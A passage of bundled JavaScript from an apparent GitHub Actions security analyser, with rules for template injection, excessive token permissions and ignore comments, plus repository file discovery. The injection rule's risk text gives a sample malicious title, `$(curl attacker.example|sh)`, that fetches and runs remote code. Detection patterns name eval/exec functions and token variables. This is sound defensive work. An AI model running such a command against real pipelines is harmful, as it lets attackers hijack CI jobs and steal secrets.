        : (0,lib_shell/* parseScript */.tl)(scalar.value, shell, (0,model/* expressionsIn */.l$)(scalar));
    if (isPartOfName(embedded, shell, script))
        return null;
    const variable = variableFor(embedded, expression, step);
    if (!variable || (!variable.isProvided && isSharedText(scalar, step.map, rootOf(step))))
        return null;
    const replacement = referenceAt(embedded, variable.name, shell, script, wordCount(expression, step));
    if (!replacement)
        return null;
    const edit = replaceInScalar(scalar, replacement);
    const declare = variable.isSet ? null : declareVariable(step, variable.name, embedded.text);
    if (!edit || (!variable.isSet && !declare))
        return null;
    return {
        description: `hand the value over in the variable \`${variable.name}\``,
        safe: replacement.isSafe && keepsVariables(step),
        edits: declare ? [edit, declare] : [edit],
    };
}
function rootOf({ owner }) {
    return owner.kind === "composite" ? owner.root : owner.workflow.root;
}
/** The beginning of a variable, `$NAME_` or `${NAME_`, at the end of a text. */
const POSIX_NAME = /\$(?:\{[#!]?\w*|[A-Za-z_]\w*)?$/;
const POWERSHELL_NAME = /\$(?:\{[\w:]*|[A-Za-z_][\w:]*)?$/;
const NAMES = {
    bash: POSIX_NAME,
    sh: POSIX_NAME,
    pwsh: POWERSHELL_NAME,
    powershell: POWERSHELL_NAME,
    javascript: /\$(?:\{\w*)?$/,
};
/** `$${{ … }}`, `${TOKEN_${{ … }}}` build the name of a variable, such as PowerShell's `$true`. */
function isPartOfName({ start }, shell, { text }) {
    const before = text.slice(Math.max(0, start - 300), start).replace(/\$\{\{.*?\}\}/g, "x");
    return NAMES[shell]?.test(before) ?? false;
}
/** Is the script surely read by the shell that it seems to be for, with the step's variables? */
function keepsVariables(step) {
    if (!step.run)
        return true;
    const { from, node } = step.shell;
    return from !== "unknown" && !/\b(?:sudo|env|su|doas)\b/.test(node?.value ?? "");
}
// ---- the reference -------------------------------------------------------------------------------------------------
function referenceAt(embedded, name, shell, script, words) {
    const { start, end } = embedded;
    const whole = { start, end, isSafe: true };
    switch (shell) {
        case "bash":
        case "sh":
            return shellReference(embedded, name, script, words);
        case "pwsh":
        case "powershell":
            return powershellReference(embedded, name, script, words);
        case "python": {
            const literal = script.strings.find((string) => string.body.start === start && string.body.end === end);
            if ((literal?.kind !== "string" && literal?.kind !== "raw-string") || hasNeighbour(script.text, literal))
                return null;
            if (isInCasePattern(script.text, literal))
                return null;
            // A field of an f-string may not hold the quotes of the f-string before Python 3.12.
            if (script.strings.some((outer) => outer.start < literal.start && literal.end < outer.end))
                return null;
            return { ...whole, ...inPlaceOf(literal, `__import__("os").environ["${name}"]`, script.text) };
        }
        case "javascript":
            return javascriptReference(embedded, name, script);
        default:
            return null;
    }
}
function shellReference(embedded, name, script, words) {
    const { start, end } = embedded;
    const fate = fateOf(script, start);
    if (fate === "code")
        return null;
    const whole = { start, end, isSafe: fate === "data" };
    const quoting = script.quotingAt(start);
    if (quoting !== "single" && isEscapedInShell(script.text, start))
        return null;
    switch (quoting) {
        case "double":
        case "heredoc":
            return { ...whole, text: `\${${name}}` };
        case "single":
            // Alone in its quotes it takes their place; else they are closed before it and opened again behind it.
            return isAloneInQuotes(script, embedded)
                ? { ...whole, start: start - 1, end: end + 1, text: `"\${${name}}"` }
                : { ...whole, text: `'"\${${name}}"'` };
        case "none":
            if (!isArgument(script, start) || isRegularExpression(script.text, start))
                return null;
            return unquotedReference({ ...whole, text: `\${${name}}` }, script, words);
        default:
            return null;
    }
}
/** Backticks take backslashes off once more. */
function isEscapedInShell(text, offset) {
    return isEscaped(text, offset, "\\") || (text[offset - 1] === "\\" && text.includes("`"));
}
/** Behind an escape character the sign of a variable is a plain character; two of them are one that is meant as such. */
function isEscaped(text, offset, character) {
    let count = 0;
    while (text[offset - 1 - count] === character)
        count++;
    return count % 2 === 1;
}
/** Behind `=~` quotes would make a plain text of it, and without them it still would be what an attacker wants. */
function isRegularExpression(text, offset) {
    return /=~\s+\S*$/.test(text.slice(Math.max(0, offset - 200), offset));
}
/**
 * Quotes keep a value as one word, which is the same for one that is a word anyway. Another may be meant as several words
 * or as none (`${{ inputs.extra-args }}`), or as a pattern in `[[ ]]`: there it stands without quotes, which gives what the
 * text gave. In `[ ]` a missing word would be an error, and a part of a word is better not split.
 */
function unquotedReference(replacement, script, words) {
    const { start, end, text } = replacement;
    const quoted = { ...replacement, text: `"${text}"` };
    if (isSameAsOneWord(words, replacement, script))
        return quoted;
    const test = testAround(script, start);
    const keepsWords = test === "[[" || (test === undefined && isWholeArgument(script, start, end));
    return { ...(keepsWords ? replacement : quoted), isSafe: false };
}
const PART_OF_WORD = /[^\s;&|()<>`]/;
/** A part of a word may be empty; where nothing stands around it, nothing was there. */
function isSameAsOneWord(words, { start, end }, { text }) {
    if (words !== "one or none")
        return words === "one";
    return PART_OF_WORD.test(text.charAt(start - 1)) || PART_OF_WORD.test(text.charAt(end));
}
const TESTS = new Set(["[", "[[", "test"]);
/** The test command that an offset is an argument of. */
function testAround({ commands }, offset) {
    const test = commands.find(({ name, args }) => TESTS.has(name?.literal ?? "") && args.some(({ start, end }) => start <= offset && offset < end));
    return test?.name?.literal;
}
function isWholeArgument(script, start, end) {
    return script.commands.some(({ args }) => args.some((word) => word.start === start && word.end === end));
}
function isAloneInQuotes({ text }, { start, end }) {
    return text[start - 1] === "'" && text[end] === "'";
}
function powershellReference(embedded, name, script, words) {
    const { start, end } = embedded;
    const fate = fateOf(script, start);
    if (fate === "code" || isEscaped(script.text, start, "`"))
        return null;
    const whole = { start, end, isSafe: fate === "data" };
    switch (script.quotingAt(start)) {
        case "double":
        case "here-string-double":
            return { ...whole, text: `\${env:${name}}` };
        case "single":
            // Nothing is expanded in there, so only a literal that holds nothing else can be replaced.
            return isAloneInQuotes(script, embedded)
                ? { ...whole, start: start - 1, end: end + 1, text: `"\${env:${name}}"` } // an empty variable alone is `$null`
                : null;
        case "none": {
            if (!isArgument(script, start) || !isPlainBehind(script, end))
                return null;
            const isSafe = whole.isSafe && isSameAsOneWord(words, whole, script);
            return { ...whole, isSafe, text: `\${env:${name}}` };
        }
        default:
            return null;
    }
}
/** `.`, `[`, `(` and `:` behind a variable would be read as a member of it, and `,` as the next item of a list. */
function isPlainBehind({ text }, end) {
    return /^[\w\s/\\);|}$-]?$/.test(text.charAt(end));
}
function javascriptReference(embedded, name, script) {
    const { start, end, expression } = embedded;
    const literal = script.strings.find((string) => string.start < start && end < string.end);
    if (!literal || IS_GIVEN_TO_LOADER.test(script.text.slice(Math.max(0, literal.start - 100), literal.start)))
        return null;
    // What `toJSON` escapes, the program's string literal unescaped again.
    const isVerbatim = expression !== undefined && !(0,expressions/* dataflow */.z5)(expression).some(({ throughToJson }) => throughToJson);
    const isSafe = isVerbatim && !RUNS_JAVASCRIPT.test(script.text);
    const whole = { start, end, isSafe };
    if (literal.kind === "template" && script.quotingAt(start) === "template") {
        if (isEscaped(script.text, start, "\\"))
            return null;
        return { ...whole, text: `\${process.env.${name}}` };
    }
    if (literal.body.start !== start || literal.body.end !== end || isKey(script.text, literal))
        return null;
    return { ...whole, ...inPlaceOf(literal, `process.env.${name}`, script.text) };
}
/** A reference instead of a literal; a quote ends the word before it, which a reference doesn't (`return'X'`). */
function inPlaceOf({ start, end }, reference, text) {
    const before = /[\w$]/.test(text.charAt(start - 1)) ? " " : "";
    const behind = /[\w$]/.test(text.charAt(end)) ? " " : "";
    return { start, end, text: before + reference + behind };
}
/** Functions that run, or load, what they are given. */
const RUNS_JAVASCRIPT = /\b(?:eval|Function|exec\w*|spawn\w*|fork|setTimeout|setInterval|runIn\w*|compileFunction)\s*\(|\b(?:require|import)\s*\(\s*[^'"\s]/;
const IS_GIVEN_TO_LOADER = /\b(?:eval|Function|require|import|exec\w*|spawn\w*|getExecOutput)\s*\(\s*$|\b(?:from|import)\s*$/;
/** `{"text": 1}`, `{"text"() {}}`, `class { "text" = 1 }`: a reference can't stand where a key does. */
function isKey(text, literal) {
    if (/^\s*(?:\(|=(?!=))/.test(text.slice(literal.end, literal.end + 20)))
        return true;
    return (/^\s*:/.test(text.slice(literal.end, literal.end + 20)) &&
        /[{,]\s*$/.test(text.slice(Math.max(0, literal.start - 200), literal.start)));
}
/** Python joins literals that stand side by side; a call can't. */
function hasNeighbour(text, literal) {
    return (/["']\s*$/.test(text.slice(Math.max(0, literal.start - 200), literal.start)) ||
        /^\s*[rbfuRBFU]{0,2}["']/.test(text.slice(literal.end, literal.end + 200)));
}
/** `case 'text':`, or a pattern of several lines: no call can stand there. The rest of such a line is left alone, too. */
function isInCasePattern(text, { start }) {
    return /(?:^|\n)[ \t]*case\b(?![ \t]*[=.])(?:[^\n]*|[^:]*)$/.test(text.slice(Math.max(0, start - 500), start));
}
const NO_COMMAND = /^(?:case|do|elif|else|for|function|if|select|then|until|while)$/;
const PLAIN_WORDS = /^[ \t]*([\w./-]+)(?:[ \t]+[\w./:=,@%+-]+)*[ \t]+(?:[\w./:-]+=)?$/;
/** `command word --option=` before an offset, on a line of its own: that needs no parser to be seen as an argument. */
function followsPlainWords(text, offset) {
    const lineStart = text.lastIndexOf("\n", offset - 1) + 1;
    if (offset - lineStart > 200 || text[lineStart - 2] === "\\")
        return false;
    const command = PLAIN_WORDS.exec(text.slice(lineStart, offset))?.[1];
    return command !== undefined && !NO_COMMAND.test(command);
}
/** An argument, a redirect's target or a plain assignment: places where a quoted variable may stand. */
function isArgument(script, offset) {
    if (followsPlainWords(script.text, offset))
        return true;
    return script.commands.some((command) => command.args.some((word) => word.start <= offset && offset < word.end) ||
        command.redirects.some(({ target }) => target !== undefined && target.start <= offset && offset < target.end) ||
        command.assignments.some((assignment) => assignment.values.length === 1 &&
            assignment.start <= offset &&
            offset < assignment.end &&
            !isArray(script, assignment)));
}
function isArray(script, assignment) {
    return script.text.slice(assignment.start, assignment.end).includes("=(");
}
/** Contexts that the runner hands to every script as variables. */
const PROVIDED = new Set([
    "github.actor",
    "github.base_ref",
    "github.event_name",
    "github.head_ref",
    "github.ref",
    "github.ref_name",
    "github.repository",
    "github.run_id",
    "github.sha",
    "github.workflow",
]);
function variableFor(embedded, expression, step) {
    const path = (0,expressions/* contextPath */.VJ)(expression);
    const dotted = path?.segments.join(".") ?? "";
    if (path?.exact && PROVIDED.has(dotted))
        return { name: dotted.replace(".", "_").toUpperCase(), isSet: true, isProvided: true };
    if (path?.exact && path.segments[0] === "env" && path.segments.length === 2)
        return existing(path.segments[1], step);
    const contexts = (0,expressions/* references */.Ft)(expression);
    const [first] = contexts;
    if (!first || contexts.some((context) => isSetBeside(context, step)))
        return null;
    const readsEnv = contexts.some(({ segments }) => segments[0] === "env");
    const base = nameFor(first.segments);
    for (let n = 1; n < 10; n++) {
        const name = n === 1 ? base : `${base}_${n}`;
        const entry = step.variable(name);
        if (!readsEnv && entry?.value?.value === embedded.text)
            return { name: entry.name, isSet: true };
        // A variable of the script's own, or one that an earlier step set, may have that name.
        if (!entry && !isTaken(name, embedded, step))
            return { name, isSet: false };
    }
    return null;
}
/** `env.X` where the step's own `env:` sets `X`: the values of a block don't see each other. */
function isSetBeside({ segments, exact }, { env }) {
    if (segments[0] !== "env" || !env)
        return false;
    const [, name] = segments;
    return !exact || name === undefined || env.dynamic !== undefined || env.get(name) !== undefined;
}
/** The script, or another of its job, has a variable of that name already. */
function isTaken(name, { scalar }, { owner }) {
    if (assignedIn(owner).has(name))
        return true;
    const isMentioned = scalar.value.toUpperCase().includes(name);
    return isMentioned && new RegExp(`(?<!\\w)${name}(?!\\w)`, "i").test(scalar.value);
}
const assigned = new WeakMap();
/** The names that scripts of a job or action assign, to the environment of later steps too. */
function assignedIn(owner) {
    let names = assigned.get(owner);
    if (!names) {
        const scripts = owner.steps.flatMap(({ run }) => (run?.scalar.mayContain("=") ? [run.text] : []));
        names = new Set(scripts.flatMap((text) => Array.from(text.matchAll(/\b([A-Z_][A-Z0-9_]*)=/g), ([, name]) => name)));
        assigned.set(owner, names);
    }
    return names;
}
/** `env.X` is a variable of the script as it is, if an `env:` block sets it. */
function existing(name, step) {
    const entry = step.variable(name);
    return entry && /^[A-Za-z_]\w*$/.test(entry.name) ? { name: entry.name, isSet: true } : null;
}
/** `github.event.pull_request.title` → `PULL_REQUEST_TITLE`; names that begin with `GITHUB_` are the runner's own. */
function nameFor(segments) {
    const words = segments[0] === "github" ? segments.slice(segments[1] === "event" ? 2 : 1) : segments;
    const name = words
        .filter((word) => word !== "*")
        .join("_")
        .replace(/\W/g, "_")
        .toUpperCase();
    return /^[A-Z_]/.test(name) && !/^(?:GITHUB|RUNNER|ACTIONS)_/.test(name) && name !== "PATH" ? name : `VALUE_${name}`;
}
function declareVariable(step, name, text) {
    const block = step.env?.map;
    const isFlow = block ? block.flow : step.map.flow;
    const isPlain = !isFlow && !/: |\s#|["\n]/.test(text);
    const after = step.map.entry("run") ?? step.map.entry("with");
    return setIn(step.map, "env", name, isPlain ? text : JSON.stringify(text), after);
}
// ---- the edit ------------------------------------------------------------------------------------------------------
/** Writes the replacement in the style of the scalar, so that its value holds just that text. */
function replaceInScalar(scalar, { start, end, text }) {
    const span = scalar.spanOf(start, end);
    if (scalar.style === "double")
        return { ...span, text: JSON.stringify(text).slice(1, -1) };
    if (scalar.style === "single")
        return { ...span, text: text.replaceAll("'", "''") };
    return { ...span, text };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/holdings.js

const holdings_cache = new WeakMap();
function holdingsOf(job) {
    let holdings = holdings_cache.get(job);
    if (!holdings) {
        holdings = readHoldings(job);
        holdings_cache.set(job, holdings);
    }
    return holdings;
}
function readHoldings(job) {
    const { permissions } = job.effectivePermissions;
    const writes = permissions?.writes ?? [];
    const secrets = secretsOf(job);
    return {
        secrets: [...secrets.names].sort(),
        mayHoldAnySecret: secrets.isOpen,
        writes: writes.filter((scope) => scope !== "id-token"),
        hasDefaultToken: permissions === null,
        hasIdentity: writes.includes("id-token"),
    };
}
/** No secret, no write scope and no identity: there is little to gain. */
function holdsNothing(holdings) {
    return (holdings.secrets.length === 0 &&
        !holdings.mayHoldAnySecret &&
        holdings.writes.length === 0 &&
        !holdings.hasDefaultToken &&
        !holdings.hasIdentity);
}
function secretsOf(job) {
    const found = { names: new Set(), isOpen: job.kind === "reusable" && job.inheritsSecrets };
    for (const name of [job.map, job.workflow.env?.entry.value].flatMap((node) => node ? secretsNamedBelow(node) : [])) {
        if (name === "*")
            found.isOpen = true;
        else if (name.toLowerCase() !== "github_token")
            found.names.add(name.toUpperCase());
    }
    return found;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/template-injection.js








/* harmony default export */ const template_injection = (defineRule({
    id: "template-injection",
    category: "injection",
    severity: "high",
    isZizmor: true,
    fixes: "both",
    summary: "Text that others write is expanded into a script",
    risk: "The runner pastes the text into the script before the shell reads it. A pull request titled `$(curl attacker.example|sh)` is then a command in your job, with its token and its secrets.",
    mend: 'Hand the value over in `env:` and read the variable in the script, in double quotes: `echo "${TITLE}"`.',
    sources: [
        "https://docs.github.com/actions/concepts/security/script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
    examples: { flagged: [], silent: [] },
    run(run, report) {
        template_injection_judge(run.scalar, run.shell, run.step, report);
    },
    uses({ uses, step }, report) {
        if (!step || uses.target.kind !== "repository" || !step.with)
            return;
        const name = (0,model/* nameOf */.Vb)(uses.target);
        for (const input of codeInputsOf(name)) {
            const value = step.input(input)?.value;
            if (value?.kind === "scalar")
                template_injection_judge(value, languageOf(name), step, report);
        }
    },
}));
const LANGUAGES = {
    bash: "a shell script",
    sh: "a shell script",
    pwsh: "a PowerShell script",
    powershell: "a PowerShell script",
    cmd: "a batch script",
    python: "a Python program",
    javascript: "a JavaScript program",
    unknown: "code",
};
function template_injection_judge(scalar, shell, step, report) {
    for (const embedded of (0,model/* expressionsIn */.l$)(scalar)) {
        const { expression } = embedded;
        if (!expression)
            continue;
        const rating = rateExpression(expression, step);
        if (rating.persona === "pedantic" && report.persona === "regular")
            continue;
        speak(embedded, rating, shell, step, report);
    }
}
function speak(embedded, rating, shell, step, report) {
    const language = isShellSure(embedded.scalar, step) ? LANGUAGES[shell] : "a script";
    const cause = rating.node
        ? `\`${template_injection_asWritten(embedded, rating.node)}\` is ${rating.why}, and it is`
        : "An expression is";
    const isNeverSet = rating.persona === "regular" && !isSetBy(rating.source, step);
    const note = isNeverSet ? " (none of the workflow's events sets it)" : "";
    report({ file: embedded.file, ...embedded.spanOf() }, `${cause} expanded into ${language}${note}`, {
        severity: hasLittleToLose(step) ? (0,lib/* lowered */.DM)(rating.severity) : rating.severity,
        confidence: isNeverSet ? "low" : rating.confidence,
        persona: rating.persona,
        fix: rating.source === "" ? null : handOverThroughEnv(embedded, shell, step),
    });
}
/** Code of an action has one language; which shell reads a script may depend on a runner that isn't known. */
function isShellSure(scalar, step) {
    if (step.run?.scalar !== scalar)
        return true;
    const { from } = step.shell;
    return from !== "mixed" && from !== "unknown";
}
function template_injection_asWritten({ scalar }, { start, end }) {
    return scalar.value.slice(start, end).replace(/\s+/g, " ");
}
/** The caller decides what a composite action's job holds. */
function hasLittleToLose({ owner }) {
    return owner.kind === "normal" && holdsNothing(holdingsOf(owner));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/suppression-without-reason.js

/* harmony default export */ const suppression_without_reason = (defineRule({
    id: "suppression-without-reason",
    category: "meta",
    severity: "low",
    summary: "An ignore comment gives no reason, or isn't written as one",
    risk: "Nobody can tell later whether the finding was judged or only silenced, so it is not silenced.",
    mend: "Write why behind the bracket: `# trustchain: ignore[unpinned-uses] vendored mirror, updated by its own job`.",
    examples: { flagged: [], silent: [] },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unreadable-file.js

/* harmony default export */ const unreadable_file = (defineRule({
    id: "unreadable-file",
    category: "meta",
    severity: "high",
    summary: "A file can't be read as GitHub would read it",
    risk: "What can't be read can't be checked: anything may stand in it. GitHub may refuse the file, or read it otherwise than its author meant.",
    mend: "Mend the file at the place that is named. It is UTF-8 text and, but for Dockerfiles, one YAML 1.2 document, with each key once in its mapping and without merge keys (`<<`).",
    sources: [
        "https://yaml.org/spec/1.2.2/",
        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax",
    ],
    examples: { flagged: [], silent: [] },
    repository(repository, report) {
        const told = new Map();
        for (const { file } of repository.unreadable)
            told.set(file.path, (told.get(file.path) ?? 0) + 1);
        for (const { file, start, end, reason } of repository.unreadable) {
            const count = told.get(file.path);
            if (count === undefined)
                continue;
            told.delete(file.path);
            const more = count > 1 ? ` (and ${count - 1} more of its kind)` : "";
            report({ file, start, end }, `This file can't be read: ${reason}${more}`);
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unused-suppression.js

/* harmony default export */ const unused_suppression = (defineRule({
    id: "unused-suppression",
    category: "meta",
    severity: "low",
    persona: "pedantic",
    summary: "An ignore comment silences nothing",
    risk: "It would silence a finding that somebody adds to this line one day, without anyone having judged it.",
    mend: "Remove the comment, or mend the rule's id in it.",
    examples: { flagged: [], silent: [] },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/token-use.js

/** Actions that use the token for nothing but to read the repository, whatever their inputs are. */
const READERS = new Set([
    "actions/cache",
    "actions/cache/restore",
    "actions/cache/save",
    "actions/checkout",
    "actions/download-artifact",
    "actions/setup-dotnet",
    "actions/setup-go",
    "actions/setup-java",
    "actions/setup-node",
    "actions/setup-python",
    "actions/upload-artifact",
]);
/** The token itself, whole contexts that hold it, and the variables by which an OIDC identity is asked for. */
const TOKEN = /\bgithub\s*\.\s*token\b|github_token|gh_token|\[\s*'token'\s*\]|json\s*\(\s*(?:github|secrets)\s*\)|actions_id_token/i;
/**
 * Is `contents: read` surely enough for a job's token? Only where every step is known, nothing in the job names the
 * token, and no script finds the credential that a checkout leaves behind.
 */
function needsOnlyToRead(job) {
    // What a called workflow asks for must not be more than its callers give, and those can't all be seen.
    if (job.kind === "reusable" || job.workflow.trigger("workflow_call"))
        return false;
    let namesToken = false;
    const look = (text) => {
        namesToken ||= TOKEN.test(text);
    };
    visitScalars(job.map, (scalar) => look(scalar.value));
    const workflowEnv = job.workflow.env?.entry.value;
    if (workflowEnv)
        visitScalars(workflowEnv, (scalar) => look(scalar.value));
    return (!namesToken && job.steps.every(isReader) && !(leavesCredential(job.steps) && job.steps.some((step) => step.run)));
}
function isReader(step) {
    if (step.run)
        return true;
    const { uses } = step;
    return uses?.target.kind === "repository" && READERS.has(uses.text.split("@")[0]?.toLowerCase() ?? "");
}
function leavesCredential(steps) {
    return steps.some((step) => {
        const setting = step.input("persist-credentials")?.value;
        const isOff = setting?.kind === "scalar" && setting.value === "false";
        return step.uses?.is("actions/checkout") === true && !isOff;
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/permissions/excessive-permissions.js



/** What an attacker can do with the scope when it may write; `medium` for scopes that aren't named. */
const SCOPE_SEVERITY = {
    actions: "high",
    attestations: "high",
    contents: "high",
    deployments: "high",
    "id-token": "high",
    issues: "high",
    models: "low",
    packages: "high",
    pages: "high",
    "pull-requests": "high",
    statuses: "low",
};
/* harmony default export */ const excessive_permissions = (defineRule({
    id: "excessive-permissions",
    category: "permissions",
    severity: "medium",
    isZizmor: true,
    fixes: "safe",
    summary: "A token may do more than its job needs",
    risk: "Whatever gets into one step of the job can use the token: an action that was taken over, a dependency's install script, an expression that was expanded into a command. With write rights it changes code, releases and packages.",
    mend: "Write `permissions: {}` at the top of the workflow, and give each job the scopes that it needs.",
    sources: ["https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#permissions"],
    examples: { flagged: [], silent: [] },
    workflow(workflow, report) {
        const { permissions } = workflow;
        if (!permissions)
            return;
        const isIrrelevant = workflow.isReusableOnly || workflow.jobs.every((job) => job.permissions);
        const persona = isIrrelevant ? "pedantic" : "regular";
        for (const excess of excessOf(permissions)) {
            const fix = excessive_permissions_fixOf(permissions, inheritingJobs(workflow));
            report(excess.place, excess.message("every job of the workflow"), { severity: excess.severity, persona, fix });
        }
        if (permissions.kind !== "scopes")
            return;
        for (const { scope, level, entry } of permissions.grants) {
            if (level !== "write")
                continue;
            const message = `Every job of the workflow that has no \`permissions\` of its own may write \`${scope}\``;
            const severity = SCOPE_SEVERITY[scope] ?? "medium";
            // With one job the workflow's block says what a job-level one would.
            report(entry.key, message, { severity, persona: workflow.jobs.length === 1 ? "pedantic" : persona });
        }
    },
    job(job, report) {
        judgeJob(job, job.workflow.isReusableOnly ? "pedantic" : "regular", report);
    },
    // The caller decides what a called workflow's token may do, even where the caller is called itself.
    reusableJob(job, report) {
        judgeJob(job, "regular", report);
    },
}));
function judgeJob(job, persona, report) {
    const { permissions } = job;
    if (permissions) {
        for (const excess of excessOf(permissions)) {
            report(excess.place, excess.message(`the job \`${job.id}\``), {
                severity: excess.severity,
                persona,
                fix: excessive_permissions_fixOf(permissions, [job]),
            });
        }
    }
    else if (!job.workflow.permissions) {
        const message = `Nothing limits the token of the job \`${job.id}\`: it has the repository's default rights`;
        report(job.key, message, { confidence: "medium", persona, fix: addReadOnly(job) });
    }
}
function excessOf(permissions) {
    const place = permissions.entry.value;
    if (permissions.kind === "write-all") {
        return [{ place, severity: "high", message: (whose) => `The token of ${whose} may write everything` }];
    }
    if (permissions.kind === "read-all") {
        return [
            {
                place,
                severity: "medium",
                message: (whose) => `The token of ${whose} may read everything, secret-scanning alerts and packages too`,
            },
        ];
    }
    return [];
}
function inheritingJobs(workflow) {
    return workflow.jobs.filter((job) => !job.permissions);
}
function excessive_permissions_fixOf(permissions, jobs) {
    if (permissions.kind === "scopes" || !jobs.every(needsOnlyToRead))
        return null;
    const edit = setValue(permissions.entry, "{contents: read}");
    return edit && { description: "leave only `contents: read`", safe: true, edits: [edit] };
}
/** Sure only where nothing in the job can use more; see `needsOnlyToRead`. */
function addReadOnly(job) {
    if (!needsOnlyToRead(job))
        return null;
    const before = job.map.entries[0];
    const edit = before && insertEntry(job.map, "permissions", { contents: "read" }, before);
    return edit ? { description: "give the job `contents: read` and nothing else", safe: true, edits: [edit] } : null;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/discover.js




const SKIPPED_FOLDERS = new Set(["node_modules", ".git"]);
const RENOVATE = new Set([
    "renovate.json",
    "renovate.json5",
    ".github/renovate.json",
    ".github/renovate.json5",
    ".renovaterc",
    ".renovaterc.json",
    ".renovaterc.json5",
]);
const CODEOWNERS = new Set(["CODEOWNERS", ".github/CODEOWNERS", "docs/CODEOWNERS"]);
const PACKAGE_CONFIGURATION = new Set([
    ".npmrc",
    ".yarnrc",
    ".yarnrc.yml",
    "bunfig.toml",
    "build.gradle",
    "build.gradle.kts",
    "composer.json",
    "gemfile",
    "go.env",
    "go.mod",
    "nuget.config",
    "pip.conf",
    "pipfile",
    "pnpm-workspace.yaml",
    "pom.xml",
    "pyproject.toml",
    "settings.gradle",
    "settings.gradle.kts",
    "settings.xml",
    "uv.toml",
]);
/** The kind of the file at `path`, or undefined for one that the analysis doesn't care about. */
function kindOf(path) {
    const slash = path.lastIndexOf("/");
    const name = path.slice(slash + 1);
    if (slash === -1 ? false : path.slice(0, slash) === ".github/workflows") {
        if (name === "actions.lock")
            return "actions-lock";
        return /\.ya?ml$/.test(name) ? "workflow" : undefined;
    }
    if (name === "action.yml" || name === "action.yaml")
        return "action";
    if (path === ".github/dependabot.yml" || path === ".github/dependabot.yaml")
        return "dependabot";
    if (RENOVATE.has(path))
        return "renovate";
    if (CODEOWNERS.has(path))
        return "codeowners";
    if (isDockerfile(name))
        return "dockerfile";
    return isPackageConfiguration(path, name) ? "package-configuration" : undefined;
}
/**
 * `Dockerfile`, `app.Dockerfile` and the like, in any case, as Docker and editors have it; but `dockerfile.ts` is a program,
 * and `Dockerfile.dockerignore` a list of files.
 */
function isDockerfile(name) {
    return (/^(?:.*\.)?(?:docker|container)file$/i.test(name) ||
        /^(?:Docker|Container)file\.(?!(?:docker|container)ignore$)./.test(name));
}
function isPackageConfiguration(path, name) {
    const lower = name.toLowerCase();
    return (PACKAGE_CONFIGURATION.has(lower) ||
        (lower.startsWith("requirements") && lower.endsWith(".txt")) ||
        /(?:^|\/)\.cargo\/config(?:\.toml)?$/.test(path) ||
        path.endsWith("gradle/verification-metadata.xml"));
}
/**
 * Finds the files of a repository that the analysis reads, in a fixed order.
 *
 * Links to folders aren't followed, but for `.github` and what it holds; links that leave the repository are never followed.
 */
function discover(root) {
    const found = { files: [], unreachable: [] };
    walk({ root, realRoot: (0,external_node_fs_.realpathSync)(root), found, seen: new Set() }, "");
    found.files.sort((a, b) => (0,lib/* compareText */.n6)(a.path, b.path));
    return found;
}
function walk(state, folder) {
    let entries;
    try {
        entries = (0,external_node_fs_.readdirSync)((0,external_node_path_.join)(state.root, folder), { withFileTypes: true });
    }
    catch (error) {
        state.found.unreachable.push({ path: folder || ".", reason: (0,action_kit_lib/* explain */.WE)(error) });
        return;
    }
    for (const entry of entries) {
        const path = folder === "" ? entry.name : `${folder}/${entry.name}`;
        if (entry.isDirectory()) {
            if (!SKIPPED_FOLDERS.has(entry.name))
                walk(state, path);
        }
        else if (entry.isSymbolicLink()) {
            visitLink(state, path);
        }
        else if (entry.isFile()) {
            addFile(state, path);
        }
    }
}
function addFile(state, path) {
    const kind = kindOf(path);
    if (kind)
        state.found.files.push({ path, kind });
}
function visitLink(state, path) {
    const isGithub = path === ".github" || path.startsWith(".github/");
    if (!isGithub && !kindOf(path))
        return;
    const target = insideTarget(state, path);
    if (!target) {
        state.found.unreachable.push({ path, reason: "it is a link that leads to nothing in this repository" });
        return;
    }
    if (!target.isFolder)
        addFile(state, path);
    else if (isGithub && !state.seen.has(target.real)) {
        state.seen.add(target.real);
        walk(state, path);
    }
}
function insideTarget(state, path) {
    try {
        const real = (0,external_node_fs_.realpathSync)((0,external_node_path_.join)(state.root, path));
        const isInside = real === state.realRoot || real.startsWith(state.realRoot + external_node_path_.sep);
        return isInside ? { real, isFolder: (0,external_node_fs_.statSync)(real).isDirectory() } : undefined;
    }
    catch {
        // A dangling link or a loop names no file.
        return undefined;
    }
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/locate.js


/** Finds the repository that a given path means; undefined when nothing is there. */
function locateRepository(path) {
    const absolute = (0,external_node_path_.resolve)(path);
    const stats = (0,external_node_fs_.statSync)(absolute, { throwIfNoEntry: false });
    if (!stats)
        return undefined;
    if (stats.isDirectory())
        return { root: locate_rootOf(outOfGithub(absolute)), only: null };
    const root = locate_rootOf(outOfGithub((0,external_node_path_.dirname)(absolute)));
    return { root, only: (0,external_node_path_.relative)(root, absolute).replaceAll("\\", "/") };
}
/** The folder that holds `.github`, for paths into it. */
function outOfGithub(folder) {
    if ((0,external_node_path_.basename)(folder) === "workflows" && (0,external_node_path_.basename)((0,external_node_path_.dirname)(folder)) === ".github")
        return (0,external_node_path_.dirname)((0,external_node_path_.dirname)(folder));
    return (0,external_node_path_.basename)(folder) === ".github" ? (0,external_node_path_.dirname)(folder) : folder;
}
/** The nearest folder upwards, in the same git work tree, with `.github` or an action; else the folder itself. */
function locate_rootOf(folder) {
    let candidate;
    for (let at = folder;; at = (0,external_node_path_.dirname)(at)) {
        if (candidate === undefined && isRoot(at))
            candidate = at;
        if ((0,external_node_fs_.existsSync)((0,external_node_path_.join)(at, ".git")))
            return candidate ?? folder;
        // Outside git nothing says where the repository ends.
        if (at === (0,external_node_path_.dirname)(at))
            return folder;
    }
}
/** Does a folder hold what makes it a repository or an action of its own? */
function isRoot(folder) {
    return [".github", "action.yml", "action.yaml"].some((name) => (0,external_node_fs_.existsSync)((0,external_node_path_.join)(folder, name)));
}

// EXTERNAL MODULE: external "node:buffer"
